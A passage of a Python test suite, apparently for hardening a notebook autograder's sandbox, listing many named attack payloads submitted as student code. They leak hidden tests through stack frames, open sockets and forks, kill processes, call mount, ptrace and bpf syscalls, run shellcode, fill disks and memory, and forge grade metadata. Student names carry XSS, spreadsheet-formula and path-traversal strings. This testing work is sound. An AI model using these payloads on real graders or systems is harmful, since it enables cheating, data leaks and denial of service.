        "    tell(frame.f_locals)\n    tell(list(frame.f_globals))\n"
        "    frame = frame.f_back\n"
        "gc.collect()\n"
        "for thing in gc.get_objects():\n"
        "    if type(thing) in (dict, list, tuple):\n"
        "        for part in gc.get_referents(thing):\n"
        "            if isinstance(part, str) and 'canary' in part:\n"
        "                tell(part)\n"
        "tell([m for m in sys.modules if 'mark' in m or 'check' in m])"
    ),
    "what hidden tests ask": Attack(
        first=TELL,
        answers={
            "square": "def square(x):\n"
            "    frame = sys._getframe()\n"
            "    while frame:\n"
            "        tell(repr(frame.f_locals))\n"
            "        frame = frame.f_back\n"
            "    if x != 1:\n"
            "        print(told, x, file=sys.stderr)\n"
            "    if str(x) == '1000007':\n"
            "        raise ValueError('-'.join(('the', 'hidden', 'one')))\n"
            "    return x * x",
        },
        lost=("square",),
    ),
    "open files": spying(
        "import socket\n"
        "for n in range(256):\n"
        "    attempt(lambda: os.pread(n, 4096, 0))\n"
        "    attempt(os.fstat, n)\n"
        "    attempt(lambda: socket.socket(fileno=os.dup(n)).getpeername())"
    ),
    "the worker's other forks": spying(
        "for n in range(40):\n"
        "    for path in (f'/desk/{n}', f'../{n}'):\n"
        "        attempt(os.listdir, path)\n"
        "        attempt(os.mkdir, path)\n"
        "        attempt(lambda: open(path + '/note', 'w').write('x'))"
    ),
}
SOCKETS = {
    "the Internet": spying(
        "import socket\n"
        "for host in ('127.0.0.1', '::1', '0.0.0.0', '@HOST@', '1.1.1.1'):\n"
        "    attempt(socket.create_connection, (host, @PORT@), 0.2)\n"
        "attempt(socket.getaddrinfo, 'localhost', @PORT@)"
    ),
    "datagrams": spying(
        "import socket\n"
        "for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, 5):\n"
        "    attempt(lambda: socket.socket(type=kind).sendto(b'x',\n"
        "        ('127.0.0.1', @UDP@)))"
    ),
    "sockets of Unix": spying(
        "import socket\n"
        "def reach(path):\n"
        "    s = socket.socket(socket.AF_UNIX)\n    s.connect(path)\n"
        "    s.send(b'x')\n"
        "attempt(reach, '@UNIX@')\nattempt(reach, '\\0@ABSTRACT@')\n"
        "attempt(socket.socketpair)"
    ),
    "the network by the C library": spying(
        LIBC + "for family in range(46):\n"
        "    for kind in (1, 2, 3, 5):\n"
        "        attempt(C.socket, family, kind, 0)\n"
        "attempt(C.connect, 0, 0, 0)\nattempt(C.bind, 0, 0, 0)"
    ),
    "the web": spying(
        "import urllib.request\n"
        "attempt(urllib.request.urlopen, 'http://127.0.0.1:@PORT@/', None, 1)"
    ),
}
PROCESSES = {
    "forks": beside(
        TELL + LIBC + "import subprocess\n"
        "for n in range(200):\n    attempt(os.fork)\n    attempt(C.fork)\n"
        "    attempt(C.vfork)\n"
        "attempt(os.system, 'sleep 999 &')\nattempt(os.popen, 'sleep 999')\n"
        "attempt(subprocess.Popen, ['sleep', '999'])\n"
        "attempt(subprocess.run, 'sleep 999 & disown', shell=True)\n"
        "attempt(os.posix_spawn, '/bin/sleep', ['sleep', '999'], {})"
    ),
    "threads": beside(
        TELL + "import threading, time, concurrent.futures, multiprocessing\n"
        "def late():\n    time.sleep(0.1)\n    os._exit(1)\n"
        "for n in range(200):\n"
        "    attempt(lambda: threading.Thread(target=late).start())\n"
        "attempt(lambda: multiprocessing.Process(target=late).start())\n"
        "attempt(lambda: concurrent.futures.ProcessPoolExecutor(4)"
        ".submit(late).result())"
    ),
    "another program": beside(
        TELL + "for path in ('/bin/sh', sys.executable, '/proc/self/exe'):\n"
        "    attempt(os.execv, path, [path, '-c', 'x'])\n"
        "    attempt(os.execve, path, [path], {})"
    ),
    "signals to everybody": beside(
        TELL + LIBC + "import signal\n"
        "for pid in (-1, 0, 1, 2, os.getppid(), -os.getppid(), @PID@):\n"
        "    for number in (9, 15, 19, 0):\n"
        "        attempt(os.kill, pid, number)\n"
        "        attempt(C.kill, pid, number)\n"
        "attempt(os.killpg, 0, 9)\n"
        "attempt(C.tgkill, 1, 1, 9)\nattempt(C.sigqueue, 1, 9, 0)\n"
        "attempt(signal.pidfd_send_signal, 0, 9)"
    ),
    "its own end": in_square("import os\nos._exit(0)"),
    "its own death": in_square("import os\nos.kill(os.getpid(), 9)"),
    "an abort": in_square("import os\nos.abort()"),
    "a stop": in_square("import os\nos.kill(os.getpid(), 19)"),
    "a wrong address": in_square("import ctypes\nctypes.string_at(0)"),
    "a stack without end": in_square(
        "import sys\nsys.setrecursionlimit(10**9)\n"
        "def down(*a): return max([1], key=down)\nreturn down()"
    ),
    "a deep recursion": in_square("return square(x) + 1"),
    "deep objects": in_square(
        "x = ()\nfor _ in range(10**6): x = (x,)\nreturn x"
    ),
    "ptrace": kills("101, 16, 1, 0, 0"),
    "reading other processes": kills("310, 1, 0, 0, 0, 0, 0"),
    "namespaces": kills("272, 0x10000000"),
    "a mount": kills("165, b'/', b'/', 0, 4096, 0"),
    "a file by its handle": kills("304, 3, 0, 0"),
    "a program for the kernel": kills("321, 0, 0, 0"),
    "keys of the kernel": kills("250, 0, -3, 0"),
    "rings": kills("425, 8, 0"),
    "another root": kills("161, b'/desk'"),
    "calls of 32 bits": in_square(
        "import ctypes, mmap\n"
        "code = b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3'\n"
        "page = mmap.mmap(-1, 4096, prot=7)\npage.write(code)\n"
        "at = ctypes.addressof(ctypes.c_char.from_buffer(page))\n"
        "return ctypes.CFUNCTYPE(ctypes.c_int)(at)()"
    ),
    "limits that are lifted": beside(
        TELL + "import resource\n"
        "for kind in range(16):\n"
        "    attempt(resource.setrlimit, kind, (2**62, 2**62))\n"
        "    attempt(resource.setrlimit, kind, (-1, -1))\n"
        "attempt(os.setpriority, 0, 0, -20)\nattempt(os.setuid, 0)\n"
        "attempt(os.setgid, 0)\nattempt(os.chroot, '/desk')"
    ),
}
WRITING = {
    "files everywhere": beside(
        TELL + "for place in (*@PLACES@, '/tmp', '/dev/shm', '/var/tmp', '/',"
        "\n        '/book', '/desk', '..', '/usr/lib', sys.prefix,\n"
        "        os.path.dirname(os.__file__)):\n"
        "    path = os.path.join(place, '@RUN@')\n"
        "    attempt(lambda: open(path, 'w').write('x'))\n"
        "    attempt(os.mkdir, path)\n    attempt(os.mkfifo, path)\n"
        "    attempt(os.symlink, '/', path)\n"
        "    attempt(os.rename, '.', path)\n"
        "    attempt(os.chmod, place, 0o777)\n"
        "    attempt(os.utime, place, (0, 0))\n"
        "    attempt(os.rmdir, place)"
    ),
    "files of others": beside(
        TELL + "for path in @PATHS@:\n"
        "    attempt(os.unlink, path)\n    attempt(os.truncate, path, 0)\n"
        "    attempt(lambda: open(path, 'a').write('x'))\n"
        "    attempt(os.rename, path, path + '@RUN@')\n"
        "    attempt(os.chmod, path, 0)"
    ),
    "files in memory": beside(
        TELL + LIBC + "attempt(os.memfd_create, '@RUN@')\n"
        "attempt(C.shm_open, b'/@RUN@', 66, 0o777)\n"
        "attempt(C.shmget, 1, 4096, 0o1777)\n"
        "attempt(C.mq_open, b'/@RUN@', 66, 0o777, 0)\n"
        "attempt(C.sem_open, b'/@RUN@', 64, 0o777, 1)\n"
        "try:\n    from multiprocessing import shared_memory\n"
        "    attempt(shared_memory.SharedMemory, '@RUN@', True, 4096)\n"
        "except Exception: pass"
    ),
    "files that cannot be deleted": beside(
        "import os\nhere = os.getcwd()\n"
        "for n in range(400):\n    os.mkdir('d' * 200)\n"
        "    os.chdir('d' * 200)\n"
        "open('x', 'w').close()\nos.chmod('x', 0)\nos.chmod('.', 0)\n"
        "os.chdir(here)\nos.chmod('.', 0)"
    ),
    "very many files": beside(
        "try:\n    for n in range(10**5): open(str(n), 'w').close()\n"
        "except OSError: pass"
    ),
    "very large files": beside(
        "import os\n"
        "def fill(n):\n"
        "    with open(f'large{n}', 'wb') as file:\n"
        "        file.truncate(10**9)\n"
        "        for _ in range(10**4): file.write(bytes(10**6))\n"
        "for n in range(99):\n"
        "    try: fill(n)\n    except OSError: pass"
    ),
}

# --- too much of everything --------------------------------------------------

TOO_MUCH = {
    "output without end": beside("print('x' * 10**8)\nprint('y' * 10**8)"),
    "many lines of output": beside(
        "for n in range(10**5): print(n)\n"
        "import sys\nfor n in range(10**5): print(n, file=sys.stderr)"
    ),
    "output past Python": beside(
        "import os\nfor n in (1, 2):\n"
        "    for _ in range(500):\n"
        "        try: os.write(n, b'x' * 10**6)\n"
        "        except OSError: break"
    ),
    "output in an answer": Attack(
        answers={
            "sigmoid": ANSWERS["sigmoid"].replace(
                "\n", "\n    print('x' * 10**6)\n", 1
            ),
        },
    ),
    "warnings": Attack(
        first="import warnings\n"
        "for n in range(10**5): warnings.warn(str(n), stacklevel=n % 9)",
        answers={
            "square": SQUARE.format("warnings.warn('x' * 10**7)\n    return 0")
        },
        lost=("square",),
    ),
    "things to display": beside(
        "for n in range(10**5): display('x' * 999)\n'x' * 10**8"
    ),
    "pictures": beside(
        "class Picture:\n    def _repr_mimebundle_(self, *a, **k):\n"
        "        return {'image/png': 'A' * 10**7, 'text/html': '@HTML@'}\n"
        "    def __repr__(self): return '@HTML@' * 10**5\n"
        "for n in range(400): display(Picture())"
    ),
    "memory": in_square("return np.ones(10**11)"),
    "memory, bit by bit": in_square(
        "kept = []\nwhile True: kept.append(bytearray(10**7))"
    ),
    "a result of 500 MB": in_square("return np.ones(6 * 10**7)"),
    "a wrong answer of 64 MB": instead(
        "sigmoid", "def sigmoid(z): return np.zeros(8 * 10**6)"
    ),
    "very many empty sets": on_channel(
        "reply([ext(2, b'\\x90')] * 300_000)", kept=()
    ),
    "a result of a million parts": in_square("return [[]] * 10**6"),
    "a result of a million things": in_square(
        "return [object() for _ in range(10**6)]"
    ),
    "a number of a million digits": in_square("return 10 ** 10**6"),
    "a list that holds itself": in_square(
        "kept = []\nkept.append(kept)\nreturn kept"
    ),
    "a name without end": instead(
        "Tally",
        "Tally = type('T' * 10**7, (), {'__doc__': 'Counts.'})",
        "again",
    ),
    "a number that is too large for a test": Attack(
        answers={
            "half": "def half(x):\n    return np.asarray(x) / 2",
            "small": "def small(n): return 10**10 if n == 10 else n",
        },
        lost=("small",),
    ),
    "a number that is too large for a list": Attack(
        answers={"small": "def small(n): return 10**11"},
        lost=("small",),
    ),
}

# --- too long ----------------------------------------------------------------

TOO_LONG = {
    "a loop without end": in_square("while True: pass"),
    "a loop that will not be stopped": in_square(
        "while True:\n    try:\n        while True: pass\n"
        "    except BaseException: pass"
    ),
    "sleep without an alarm": in_square(
        "signal.setitimer(signal.ITIMER_REAL, 0)\n"
        "signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "signal.pthread_sigmask(0, range(1, 65))\ntime.sleep(999)",
        first="import signal, time",
    ),
    "numpy without end": instead(
        "sigmoid",
        "def sigmoid(z):\n"
        "    a = np.ones((3000, 3000))\n"
        "    while True: a = np.linalg.svd(a)[0]",
    ),
    "answers without end": Attack(
        answers={
            "square": SQUARE.format("while True: pass"),
            "half": "def half(x):\n    return np.asarray(x) / 2",
            "small": "def small(n):\n    while True: pass",
        },
        lost=("square", "small"),
    ),
    "a pattern without end": instead(
        "double",
        "import re\ndef double(x):\n    return re.match('(a+)+b', 'a' * 60)",
        "near",
    ),
    "an end that is put off": in_square(
        "Slow()\nreturn 0",
        first="import atexit, time\nclass Slow:\n"
        "    def __del__(self): time.sleep(99)\n"
        "atexit.register(time.sleep, 99)",
    ),
    "a bomb with a timer": unsolved(
        "import signal\ndef bomb(*a):\n"
        "    for name in ('sigmoid', 'square', 'double'):\n"
        "        globals()[name] = lambda *a: None\n"
        "signal.signal(signal.SIGVTALRM, bomb)\n"
        "signal.setitimer(signal.ITIMER_VIRTUAL, 0.01, 0.01)"
    ),
    "a cell without end": Attack(last="while True: pass", kept=()),
}

# --- notebooks ---------------------------------------------------------------


def forged(change):
    """Return an attack by a notebook that `change` has been at."""
    whole = json.loads(unsolved("").notebook())
    change(whole)
    return Attack(data=json.dumps(whole).encode(), lost=tuple(CHECKS))


def _easy_tests(whole):
    for cell in whole["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["source"] = "1000"


def _more_points(whole):
    for cell in whole["cells"]:
        rights = cell["metadata"].get("nbgrader", {})
        rights |= {"points": 1000, "score": 1000, "max_score": 0.1}
        rights |= {"grade": True, "locked": False, "solution": True}


def _results_inside(whole):
    whole["metadata"] = {"score": 1000, "nbgrader": {"score": 1000}}
    for cell in whole["cells"]:
        if cell["cell_type"] == "code":
            result = {
                "output_type": "execute_result",
                "execution_count": 1,
                "metadata": {},
                "data": {"text/plain": "1000", "text/html": HTML},
            }
            cell["outputs"] = [result] * 3


def _no_tests(whole):
    whole["cells"] = [
        cell
        for cell in whole["cells"]
        if not cell["metadata"].get("nbgrader", {}).get("grade")
    ]


def _tests_first(whole):
    _no_tests(whole)
    whole["cells"] = [
        *(_cell("assert True", _check(name)[1]) for name in CHECKS),
        *whole["cells"],
        *(_cell("assert True", _check(name)[1]) for name in CHECKS),
    ]


def _odd_cells(whole):
    whole["cells"] += [
        {"cell_type": "code", "source": 5, "metadata": []},
        {"cell_type": "heading", "source": [HTML, None, 3], "level": "x"},
        {"cell_type": HTML, "source": HTML, "attachments": {HTML: {HTML: 3}}},
        {"metadata": {"nbgrader": {"grade_id": ["square"], "grade": HTML}}},
        {"metadata": {"nbgrader": {"grade_id": HTML, "points": "NaN"}}},
        [],
        None,
    ]


NOTEBOOKS = {
    "tests made easy": forged(_easy_tests),
    "more points": forged(_more_points),
    "results written inside": forged(_results_inside),
    "no tests": forged(_no_tests),
    "tests twice and elsewhere": forged(_tests_first),
    "cells that are none": forged(_odd_cells),
    "no notebook": Attack(data=b"no notebook", lost=tuple(CHECKS)),
    "an empty file": Attack(data=b"", lost=tuple(CHECKS)),
    "a list": Attack(data=b"[]", lost=tuple(CHECKS)),
    "bytes of no text": Attack(data=bytes(range(256)), lost=tuple(CHECKS)),
    "lists in lists in JSON": Attack(data=b"[" * 500_000, lost=tuple(CHECKS)),
    "a notebook of 200 MB": Attack(data=200_000_000, lost=tuple(CHECKS)),
    "a number of many digits": Attack(
        data=b'{"cells": [' + b"9" * 10**6 + b"]}", lost=tuple(CHECKS)
    ),
    "half a notebook": Attack(
        data=Attack().notebook()[:3000], lost=tuple(CHECKS)
    ),
    "text of other letters": beside(f"'\u202e{HTML}\x00\x1b[2J\ud800'"),
    "code without end": beside("(" * 10**5),
    "a number of code": beside("9" * 10**5),
    "deep code": beside("-" * 10**5 + "1"),
    "very many cells": Attack(
        data=notebook([("1", None)] * 3000).encode(), lost=tuple(CHECKS)
    ),
}
PAGES = {
    "HTML in a message": instead(
        "double",
        "class E(Exception): pass\nE.__name__ = '@HTML@'\n"
        "def double(x): raise E('@HTML@</pre></style>\\x00\\ud800')",
        "near",
    ),
    "HTML in what is printed": Attack(
        answers={
            "perceptron_predict": "def perceptron_predict(X, w, b):\n"
            "    print('@HTML@', '=cmd()', '\\x1b[2J', '\\u202e')\n"
            "    return '@HTML@'"
        },
        lost=("perceptron_predict",),
    ),
    "HTML in names of files": beside(files={f"{HTML[:7]}.txt": b"x"}),
    # Names of folders are names of students.
    "<img src=x onerror=alert(1)>": beside(),
    "\"' onmouseover='x": beside(),
    "=cmd|' &C calc'!A0": beside(),
    "+1-2": beside(),
    "@SUM(1)": beside(),
    "two\nlines": beside(),
    "up\\..\\..": beside(),
    "%2e%2e%2fup": beside(),
    "a..up": beside(),
    "x" * 200: beside(),
    "caf\udce9": beside(),
    "anna.": beside(),
    "Anna": beside(),
}

INNOCENT = ("+ a", "anna", "nora", "~zoe")
ATTACKS = {
    **LIES,
    **NAMES,
    **ERRORS,
    **CHANNELS,
    **READING,
    **SOCKETS,
    **PROCESSES,
    **WRITING,
    **TOO_MUCH,
    **TOO_LONG,
    **NOTEBOOKS,
    **PAGES,
}
